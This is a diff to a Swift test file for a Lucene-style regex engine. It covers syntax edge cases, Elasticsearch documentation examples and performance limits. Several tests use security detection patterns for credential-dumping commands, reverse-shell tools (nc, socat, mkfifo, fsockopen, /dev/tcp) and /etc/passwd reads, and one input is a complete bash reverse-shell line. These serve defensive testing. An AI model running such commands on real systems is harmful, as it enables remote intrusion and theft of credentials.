@@ -48,7 +48,7 @@ private let syntaxCases: [(String, String, Bool)] = [
   ("+a", "+a", true), ("?", "?", true), ("{", "{", true), (")", ")", true), ("]", "]", true), ("}", "}", true),
   ("|a", "|a", true), ("a||b", "a", true), ("a||b", "|b", true), ("a||b", "b", false),
   ("(oauth.*||.*login.*)", "oauth2", true), ("(oauth.*||.*login.*)", "|x-login", true),
-  ("(oauth.*||.*login.*)", "my-login", false),
+  ("(oauth.*||.*login.*)", "my-login", false), ("(?i)abc", "?iabc", true), ("(?i)abc", "ABC", false),
   // Corpus shapes.
   (".*[ ]{20,}.*", "a" + String(repeating: " ", count: 20) + "b", true),
   (".*[ ]{20,}.*", "a" + String(repeating: " ", count: 19) + "b", false),
@@ -176,7 +176,8 @@ func regexPathologicalIsLinear(_ pattern: String) throws {
 
 @Test func regexSplitsWideUnionsIntoSeveralDFAs() throws {
   // Inner `.*`s make one DFA for the whole union too large; split in groups, every part stays deterministic.
-  let pattern = ".*(config-helper\\s.*--format|auth\\s+print-access-token|get-access-token\\s.*--output|"
+  let pattern =
+    ".*(config-helper\\s.*--format|auth\\s+print-access-token|get-access-token\\s.*--output|"
     + "kubectl\\s+config\\s+view\\s.*--raw|oci\\s+iam\\s.*token|nc\\s.*\\s-c\\s|socat\\s.*exec|"
     + "import\\s+socket.*connect|import\\s+pty.*spawn|socket\\.socket.*connect).*"
   let regex = try LuceneRegex.compile(pattern, caseMatching: .sensitive, limits: .init(dfaStates: 300))
@@ -193,4 +194,95 @@ func regexPathologicalIsLinear(_ pattern: String) throws {
   #expect(regex.isDeterministic)
   #expect(regex.matches("key=AKIAABCDEFGHIJKLMNOP and more"))
   #expect(!regex.matches("key=AKIAABCDEFGHIJKLMNO"))
+}
+
+@Test(arguments: [
+  (".*/etc/passwd.*", "cat /etc/passwd", true), (".*/etc/passwd.*", "/etc/shadow", false),
+  (".*\\.p12.*", "a.p12", true), ("@x@", "x", true), ("@x@", "", false), (".*\"é\".*", "café", true),
+  (".*.*", "", true), (".*ab.*", "ba", false), ("abc", "abc", true), ("abc.*", "abcd", true), (".*abc", "xabc", true),
+  (".*a\\*b.*", "xa*b", true), (".*a\\*b.*", "xab", false), ("a\\?", "a?", true), ("\\\\.*", "\\x", true),
+])
+func regexLiteralFastPath(_ pattern: String, _ input: String, _ expected: Bool) throws {
+  let regex = try LuceneRegex.compile(pattern)
+  #expect(regex.matches(input) == expected)
+  if case .wildcard = regex.engine {} else { Issue.record("\(pattern) did not use the wildcard fast path") }
+  let folded = try LuceneRegex.compile(pattern.uppercased(), caseInsensitive: true)
+  #expect(folded.matches(input.uppercased()) == expected)
+  #expect(folded.matches(input) == expected)
+}
+
+@Test(arguments: [
+  String(repeating: "(", count: 5_000) + "a" + String(repeating: ")", count: 5_000),
+  String(repeating: "~", count: 5_000) + "a", "a" + String(repeating: "&a", count: 5_000),
+  "a" + String(repeating: "*", count: 5_000), "a" + String(repeating: "{1}", count: 5_000),
+])
+func regexDeepNestingIsAnErrorNotACrash(_ pattern: String) {
+  #expect(throws: RegexSyntaxError.self) { _ = try LuceneRegex.compile(pattern) }
+}
+
+@Test func regexModerateNestingCompiles() throws {
+  let pattern = String(repeating: "(", count: 50) + "a" + String(repeating: ")", count: 50) + "**"
+  #expect(try LuceneRegex.compile(pattern).matches("aaa"))
+}
+
+@Test func regexHugeRepetitionIsAnError() {
+  #expect(throws: RegexSyntaxError.self) { _ = try LuceneRegex.compile("a{1000000}") }
+  #expect(throws: RegexSyntaxError.self) { _ = try LuceneRegex.compile("(a{1000}){1000}") }
+}
+
+/// The examples of Elasticsearch's regular expression syntax page.
+private let documentationCases: [(String, String, Bool)] = [
+  ("ab.", "abz", true), ("abc?", "ab", true), ("ab+", "abbb", true), ("ab*", "a", true), ("a{2}", "aa", true),
+  ("a{2,}", "aaaa", true), ("a{2,4}", "aaaaa", false), ("abc|xyz", "xyz", true), ("abc(def)?", "abcdef", true),
+  ("[abc]", "c", true), ("[-abc]", "-", true), ("[abc\\-]", "-", true), ("[a-c]", "b", true), ("[^a-c]", "b", false),
+  ("[^-abc]", "-", false), ("\\@", "@", true), ("\\\\", "\\", true), ("\"john@smith.com\"", "john@smith.com", true),
+  ("a~bc", "adc", true), ("a~bc", "aec", true), ("a~bc", "abc", false),
+  ("foo<1-100>", "foo1", true), ("foo<1-100>", "foo100", true), ("foo<1-100>", "foo101", false),
+  ("foo<01-100>", "foo01", true), ("foo<01-100>", "foo99", true),
+  ("aaa.+&.+bbb", "aaabbb", true), ("aaa.+&.+bbb", "aaabb", false),
+  ("@&~(abc.+)", "abcd", false), ("@&~(abc.+)", "abc", true), ("@&~(abc.+)", "xyz", true), ("#", "#", false),
+]
+
+@Test(arguments: documentationCases)
+func regexDocumentationExamples(_ pattern: String, _ input: String, _ expected: Bool) throws {
+  #expect(try LuceneRegex.compile(pattern).matches(input) == expected, "\(pattern) on \(input)")
+}
+
+/// Corpus patterns whose unescaped `&` or `@` are operators under Elasticsearch's flags, as Lucene reads them.
+private let corpusOperatorCases: [(String, String, Bool)] = [
+  // `&` binds tighter than `|`: `bash\s+-i\s+>&|0>&1|>&\s*/dev/tcp` holds two intersections that are empty.
+  (".*(mkfifo|bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|fsockopen).*", "sh 0>&1", false),
+  (".*(mkfifo|bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|fsockopen).*", "bash -i >& /dev/tcp/1.2.3.4/80", false),
+  (".*(mkfifo|bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|fsockopen).*", "x fsockopen y", true),
+  // `@` is any string: no '@' is required.
+  (".+@[A-Za-z0-9.]+\\.[A-Za-z]{2,}", "hello.com", true), (".+@[A-Za-z0-9.]+\\.[A-Za-z]{2,}", "a@b.io", true),
+  (".+@[A-Za-z0-9.]+\\.[A-Za-z]{2,}", ".com", false),
+  (".*\\(\\(SELECT @@VERSION\\)\\).*", "((SELECT VERSION))", true),
+  (".*\\(\\(SELECT @@VERSION\\)\\).*", "((SELECT anything VERSION))", true),
+  // Inside a class, `~` and `@` are plain characters.
+  (".*key-[-A-Za-z0-9+/=._~:]{3,}.*", "key-a~b", true), ("[^@\\s]+\\@[^@\\s]+", "a@b", true),
+]
+
+@Test(arguments: corpusOperatorCases)
+func regexCorpusOperators(_ pattern: String, _ input: String, _ expected: Bool) throws {
+  #expect(try LuceneRegex.compile(pattern).matches(input) == expected, "\(pattern) on \(input)")
+}
+
+@Test func regexAcceleratedStatesAtEveryOffset() throws {
+  // States that only leave on one or two bytes are skipped eight bytes at a time; check every alignment.
+  let keys = try LuceneRegex.compile(".*(AKIA|ASIA)[A-Z0-9]{4}.*")
+  let tld = try LuceneRegex.compile(".*\\.(top|xyz)")
+  let folded = try LuceneRegex.compile(".*\\.(top|xyz)", caseInsensitive: true)
+  for offset in 0..<40 {
+    let pad = String(repeating: "x", count: offset)
+    let accented = String(repeating: "é", count: offset % 7 + 1)
+    #expect(keys.matches(pad + "AKIAABCD" + pad))
+    #expect(keys.matches(accented + pad + "ASIA1234"))
+    #expect(!keys.matches(pad + "AKIAABC"))
+    #expect(!keys.matches(pad + "AKI" + accented + "AABCD"))
+    #expect(tld.matches(pad + "a.b" + accented + ".xyz"))
+    #expect(!tld.matches(pad + ".xyz-" + pad))
+    #expect(folded.matches(accented + pad + ".XyZ"))
+    #expect(!folded.matches(pad + ".XyZ."))
+  }
 }
